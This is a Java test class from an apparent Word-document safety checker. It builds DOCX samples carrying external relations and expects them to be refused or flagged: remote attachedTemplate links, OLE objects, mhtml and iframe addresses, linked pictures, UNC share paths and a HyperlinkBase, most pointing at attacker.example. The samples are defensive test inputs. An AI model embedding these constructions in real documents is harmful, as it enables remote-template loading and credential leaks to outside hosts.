package org.rostrum.document.check;

import static org.rostrum.document.safety.Severity.REFUSE;
import static org.rostrum.document.safety.Severity.TELL;
import static org.rostrum.document.word.DocxMaker.p;

import java.util.List;

/** Relations in other vocabularies, spellings and parts. */
final class UnlistedRelations extends UnlistedAttacks {
  @Override
  void make() {
    relations();
  }

  private void relations() {
    for (String type :
        List.of("oleObject", "frame", "subDocument", "aFChunk", "attachedTemplate")) {
      add(
          type.equals("attachedTemplate") ? 7 : 6,
          "an outside " + type + " in the vocabulary of Strict",
          REFUSE,
          type.equals("attachedTemplate") ? "remote-template" : "outside-source",
          () ->
              clean()
                  .part("word/_rels/document.xml.rels", rels(rel(STRICT + type, HTTP, "External")))
                  .bytes());
    }
    add(
        6,
        "an outside main document beside the right one",
        REFUSE,
        "outside-source",
        () ->
            clean()
                .part(
                    "_rels/.rels",
                    rels(
                        "<Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
                            + rel(
                                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
                                HTTP,
                                "External")))
                .bytes());
    add(
        6,
        "a style sheet from outside",
        REFUSE,
        "outside-source",
        () -> clean().outside("x", "styles", HTTP).bytes());
    add(
        6,
        "a relation of a header's",
        REFUSE,
        "outside-source",
        () ->
            clean()
                .header(1, p("x"))
                .part(
                    "word/_rels/header1.xml.rels",
                    rels(rel("http://x/oleObject", "//host/share/x", "External")))
                .bytes());
    add(
        6,
        "a relation's address with blanks before it",
        REFUSE,
        "outside-source",
        () -> clean().relation("x", "oleObject", "&#9; &#10;http://attacker.example/x").bytes());
    add(
        6,
        "an address of mhtml",
        REFUSE,
        "outside-source",
        () ->
            clean()
                .outside(
                    "x",
                    "oleObject",
                    "mhtml:http://attacker.example/x!x-usc:http://attacker.example/x")
                .bytes());
    add(
        6,
        "a video on the web, by its page",
        REFUSE,
        "outside-source",
        () ->
            clean(
                    para(
                        "<w:r><w:drawing><wp:inline><wp:extent cx=\"914400\" cy=\"914400\"/><wp:docPr id=\"1\" name=\"v\"><a:extLst><a:ext uri=\"{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}\"><wp15:webVideoPr xmlns:wp15=\"http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing\" embeddedHtml=\"&lt;iframe src=&quot;http://attacker.example&quot;&gt;\"/></a:ext></a:extLst></wp:docPr></wp:inline></w:drawing></w:r>"))
                .bytes());
    add(
        6,
        "a picture of a shape's fill from outside",
        TELL,
        "outside-picture",
        () ->
            clean(
                    para(
                        "<w:r><w:pict><v:shape style=\"width:9pt;height:9pt\"><v:fill src=\"http://attacker.example/x.png\" o:althref=\"http://attacker.example/y\"/></v:shape></w:pict></w:r>"))
                .bytes());
    add(
        6,
        "a picture linked, not embedded",
        TELL,
        "outside-picture",
        () ->
            clean(
                    para(
                        "<w:r><w:drawing><wp:inline><wp:extent cx=\"914400\" cy=\"914400\"/><wp:docPr id=\"1\" name=\"v\"/><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic><pic:blipFill><a:blip r:link=\"x\"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"))
                .outside("x", "image", "file://host/share/a.png")
                .bytes());
    add(
        7,
        "a template by the settings under Strict",
        REFUSE,
        "remote-template",
        () ->
            clean()
                .settings("<w:attachedTemplate r:id=\"x\"/>")
                .part(
                    "word/_rels/settings.xml.rels",
                    rels(
                        rel(
                            STRICT + "attachedTemplate",
                            "https://attacker.example/a.dotm",
                            "External")))
                .strict()
                .bytes());
    add(
        7,
        "a template on a drive of the web",
        REFUSE,
        "remote-template",
        () ->
            clean()
                .settings("<w:attachedTemplate r:id=\"x\"/>")
                .part(
                    "word/_rels/settings.xml.rels",
                    rels(
                        rel(
                            "http://x/attachedTemplate",
                            "file:///\\\\host@80\\a.dotm",
                            "External")))
                .bytes());
    add(
        14,
        "a base address for links",
        TELL,
        "metadata",
        () ->
            clean()
                .part(
                    "docProps/app.xml",
                    "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\"><HyperlinkBase>\\\\host\\share</HyperlinkBase></Properties>")
                .part(
                    "_rels/.rels",
                    rels(
                        "<Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
                            + rel(
                                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties",
                                "docProps/app.xml",
                                "")))
                .bytes());
    add(
        13,
        "altChunk under Strict",
        REFUSE,
        "alt-chunk",
        () ->
            clean("<w:altChunk r:id=\"a\"/>")
                .relation("a", "aFChunk", "a.docx")
                .part("word/a.docx", clean().bytes())
                .strict()
                .bytes());
    add(
        13,
        "a relation of altChunk that no element names",
        REFUSE,
        "alt-chunk",
        () -> clean().relation("a", "aFChunk", "a.txt").part("word/a.txt", "words").bytes());
  }
}
